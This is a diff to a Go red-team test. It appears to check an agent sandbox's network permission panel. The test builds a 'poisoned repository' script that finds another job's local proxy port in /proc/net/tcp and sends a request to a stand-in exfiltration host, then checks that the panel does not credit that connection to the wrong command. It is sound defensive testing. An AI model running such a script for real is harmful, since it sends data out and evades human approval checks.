@@ -98,14 +98,20 @@ func TestRedTeamNetOtherJobsForwarderPort(t *testing.T) {
 			w.network(`hosts = { "exfil-@ID@.test" = "@UP@" }` + "\n")
 			// The second command, as a poisoned repository's script the
 			// rater cannot read into.
-			w.write("@PROJ@/tools/second.sh", w.x(raw+`mine=${HTTP_PROXY##*:}; echo "MINE $mine"; `+
+			// It looks again for a few seconds: the first command's
+			// forwarder may not listen yet when it starts (podman is slow
+			// to start an exec under load).
+			// (A refused connection is closed at once: writing to it must
+			// not end the script.)
+			w.write("@PROJ@/tools/second.sh", w.x(`trap '' PIPE; `+raw+`mine=${HTTP_PROXY##*:}; echo "MINE $mine"; found=; `+
+				`for try in 1 2 3 4 5 6 7 8; do `+
 				`while read -r sl local rem st rest; do [ "$st" = 0A ] || continue; `+
 				`case "$local" in 0100007F:*) p=$((16#${local#*:}));; *) continue;; esac; [ "$p" = "$mine" ] && continue; `+
-				`echo "OTHER $p"; RAWPORT=$p raw 'GET http://exfil-@ID@.test/?k=SECOND-@ID@ HTTP/1.1\r\nHost: exfil-@ID@.test\r\n\r\n'; `+
-				`done < /proc/net/tcp; echo SECOND-DONE`+"\n"))
+				`found=1; echo "OTHER $p"; RAWPORT=$p raw 'GET http://exfil-@ID@.test/?k=SECOND-@ID@ HTTP/1.1\r\nHost: exfil-@ID@.test\r\n\r\n'; `+
+				`done < /proc/net/tcp; [ -n "$found" ] && break; sleep 0.5; done; echo SECOND-DONE`+"\n"))
 			w.freeze()
 			r1, r2 := runConcurrently(w,
-				step{cmd: "sleep 9; echo FIRST-DONE", timeout: 60 * time.Second},
+				step{cmd: "sleep 12; echo FIRST-DONE", timeout: 60 * time.Second},
 				step{cmd: "bash tools/second.sh", timeout: 60 * time.Second},
 				4*time.Second)
 			logResults(t, r1, r2)
@@ -117,7 +123,7 @@ func TestRedTeamNetOtherJobsForwarderPort(t *testing.T) {
 				t.Fatalf("DID NOT RUN: the second command found no other forwarder: %q", clip(r2.stdout, 600))
 			}
 			for _, h := range held {
-				if strings.Contains(h, "sleep 9") {
+				if strings.Contains(h, "sleep 12") {
 					t.Errorf("ESCAPED: the panel was asked about the second command's connection as the first command's: %s", h)
 				}
 			}
